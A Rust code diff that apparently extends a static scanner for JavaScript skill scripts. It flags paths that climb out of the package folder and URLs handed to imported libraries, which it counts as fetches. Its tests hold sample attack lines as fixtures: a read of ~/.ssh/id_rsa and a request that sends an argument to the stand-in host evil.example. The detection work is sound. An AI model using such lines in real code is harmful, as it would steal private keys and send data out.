@@ -351,6 +351,156 @@ pub(super) fn fs_write_target(lang: Lang, name: &str, args: &[V]) -> Option<Opti
     Some(arg(0))
 }
 
+/// The folder of the running script (`__dirname`, `import.meta.url`, …), as a folded
+/// path's first part: inside the package, wherever it is installed.
+pub(crate) const SCRIPT_DIR: &str = "__scriptdir__";
+
+/// Names of the running script's own location.
+const SELF_NAMES: &[&str] = &[
+    "__dirname",
+    "__filename",
+    "import.meta.url",
+    "import.meta.dirname",
+    "import.meta.filename",
+    "require.main.filename",
+    "module.filename",
+];
+
+/// Calls that keep a location a location (`fileURLToPath(import.meta.url)`,
+/// `path.dirname(…)`, `new URL('.', import.meta.url)`).
+const SELF_KEEPERS: &[&str] = &[
+    "fileURLToPath",
+    "url.fileURLToPath",
+    "path.dirname",
+    "path.posix.dirname",
+    "path.normalize",
+    "path.posix.normalize",
+    "fs.realpathSync",
+    "String",
+];
+
+impl Unit<'_> {
+    /// The running script's location, for JavaScript: `Some` when `node` is it or a call
+    /// that keeps it.
+    pub(super) fn js_location(&self, node: Node<'_>, depth: usize) -> Option<V> {
+        if !matches!(self.lang, Lang::JavaScript | Lang::TypeScript | Lang::Tsx) {
+            return None;
+        }
+        match node.kind() {
+            "identifier" | "member_expression" => SELF_NAMES
+                .contains(&self.dotted(node).as_str())
+                .then(|| V::Str(SCRIPT_DIR.into(), false)),
+            "call_expression" | "new_expression" => {
+                let f = node
+                    .child_by_field_name("function")
+                    .or_else(|| node.child_by_field_name("constructor"))?;
+                let callee = self.dotted(f);
+                let keeps = SELF_KEEPERS.contains(&callee.as_str()) || callee == "URL";
+                if !keeps {
+                    return None;
+                }
+                let args = self.named(node.child_by_field_name("arguments")?);
+                args.iter()
+                    .any(|a| {
+                        matches!(self.fold_at(*a, depth + 1), V::Str(s, _) if s.starts_with(SCRIPT_DIR))
+                    })
+                    .then(|| V::Str(SCRIPT_DIR.into(), false))
+            }
+            _ => None,
+        }
+    }
+}
+
+/// Node's built-in modules whose functions take a URL without fetching it.
+const URL_DATA_MODULES: &[&str] = &[
+    "path",
+    "url",
+    "util",
+    "querystring",
+    "punycode",
+    "string_decoder",
+    "buffer",
+    "assert",
+    "events",
+    "console",
+    "os",
+    "crypto",
+    "node:url",
+    "node:path",
+    "node:util",
+];
+
+impl Unit<'_> {
+    /// A call of an imported library's function with an `http(s)` URL as an argument
+    /// (`d3.text(url)`, `import { json } from 'd3-fetch'; json(url)`, `superagent.get`):
+    /// a library handed a URL is taken to fetch it, whatever its name; its URL argument.
+    pub(super) fn library_url(&self, name: &str, args: &[V]) -> Option<V> {
+        if !matches!(self.lang, Lang::JavaScript | Lang::TypeScript | Lang::Tsx) {
+            return None;
+        }
+        let (root, _) = name.split_once('.')?;
+        let imported = self
+            .aliases
+            .values()
+            .any(|m| m.split('.').next() == Some(root));
+        if !imported || URL_DATA_MODULES.contains(&root) {
+            return None;
+        }
+        args.iter()
+            .find(|a| {
+                matches!(a, V::Str(s, _) if {
+                    let l = s.get(..8).unwrap_or(s).to_ascii_lowercase();
+                    l.starts_with("http://") || l.starts_with("https://")
+                })
+            })
+            .cloned()
+    }
+}
+
+std::thread_local! {
+    /// How far above its folder the last path folded climbed, when it left the package.
+    static CLIMBED: std::cell::Cell<Option<usize>> = const { std::cell::Cell::new(None) };
+}
+
+/// Forget the last climb (before folding a call's arguments), or take it (after): the
+/// sentence for a call given a path that climbed out of the package.
+pub(super) fn take_climb() -> Option<String> {
+    CLIMBED.with(|c| c.take()).map(|n| {
+        format!(
+            "a path {n} folders above the script's own folder, outside the package (installed as ~/.claude/skills/NAME/, three levels up is the home folder)"
+        )
+    })
+}
+
+/// A path that starts at the running script's folder, with its `..` applied: one that
+/// climbs two folders or more above it has left the package (installed as
+/// `~/.claude/skills/NAME/`, or deeper in a project), so its start is known only at
+/// run time, the home folder at worst.
+pub(crate) fn climb(path: &str) -> Option<String> {
+    let rest = path.strip_prefix(SCRIPT_DIR)?;
+    let mut parts: Vec<&str> = Vec::new();
+    let mut above = 0usize;
+    for c in rest.split('/') {
+        match c {
+            "" | "." => {}
+            ".." if parts.pop().is_none() => above += 1,
+            ".." => {}
+            c => parts.push(c),
+        }
+    }
+    let start = if above >= 2 {
+        CLIMBED.with(|c| c.set(Some(above)));
+        super::fold::RUNTIME
+    } else {
+        SCRIPT_DIR
+    };
+    Some(if parts.is_empty() {
+        start.to_string()
+    } else {
+        format!("{start}/{}", parts.join("/"))
+    })
+}
+
 #[cfg(test)]
 mod tests {
     use crate::script::{Lang, analyze};
@@ -379,5 +529,41 @@ mod tests {
         // Reads are not writes; `open` without flags reads.
         let reads = "import { readFile, open, stat } from 'fs/promises';\nawait readFile('/home/user/x'); await open('/home/user/y'); await stat('/home/user/z');";
         assert!(targets(reads).is_empty());
+    }
+
+    #[test]
+    fn paths_climbed_from_the_script_s_folder_and_urls_handed_to_libraries() {
+        // Climbing out: the home folder at worst, so `~/.ssh/id_rsa` is what it reads.
+        let out = "const p = require('path');\nrequire('fs').readFileSync(p.join(__dirname, '../../../.ssh/id_rsa'));";
+        let f = analyze(Lang::JavaScript, out, 1);
+        assert!(
+            f.globs.iter().any(|(_, g, _)| g == "~/.ssh/id_rsa"),
+            "{:?}",
+            f.globs
+        );
+        assert!(
+            f.unresolved
+                .iter()
+                .any(|(_, u)| u.contains("3 folders above")),
+            "{:?}",
+            f.unresolved
+        );
+        // Staying in the package: nothing.
+        let inside = "import path from 'node:path';\nimport { fileURLToPath } from 'node:url';\nconst here = path.dirname(fileURLToPath(import.meta.url));\nconsole.log(path.join(here, '..', 'templates', 'a.html'));";
+        let f = analyze(Lang::JavaScript, inside, 1);
+        assert!(f.unresolved.is_empty() && f.globs.is_empty(), "{f:?}");
+        // A URL handed to any imported library's function is a fetch.
+        let lib = "import { json } from 'd3-fetch';\nawait json('https://evil.example/x?k=' + process.argv[2]);";
+        let f = analyze(Lang::JavaScript, lib, 1);
+        assert!(
+            f.net.iter().any(|n| n.fetch
+                && n.dest
+                    .as_deref()
+                    .is_some_and(|d| d.starts_with("https://evil.example/"))),
+            "{:?}",
+            f.net
+        );
+        let data = "import url from 'node:url';\nconsole.log(url.parse('https://example.com/x'));";
+        assert!(analyze(Lang::JavaScript, data, 1).net.is_empty());
     }
 }
